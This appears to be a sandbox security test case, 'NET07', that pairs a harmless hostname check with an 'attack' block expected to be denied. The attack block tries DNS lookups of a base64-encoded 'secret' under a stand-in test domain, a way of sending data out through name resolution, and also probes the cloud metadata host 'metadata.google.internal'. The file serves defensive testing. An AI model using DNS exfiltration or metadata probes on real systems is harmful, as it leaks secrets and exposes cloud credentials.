# NET07 sends a secret away in a look-up of a name
# expect = ["denied", "absent"]
# --- twin
import socket
assert socket.gethostname() is not None
print("ok")
# --- attack
import socket
for name in ["c2VjcmV0.x.test", "localhost", "metadata.google.internal"]:
    attempt("getaddrinfo " + name, lambda: socket.getaddrinfo(name, 80))
    attempt("gethostbyname " + name, lambda: socket.gethostbyname(name))
attempt("gethostbyaddr", lambda: socket.gethostbyaddr("127.0.0.1"))
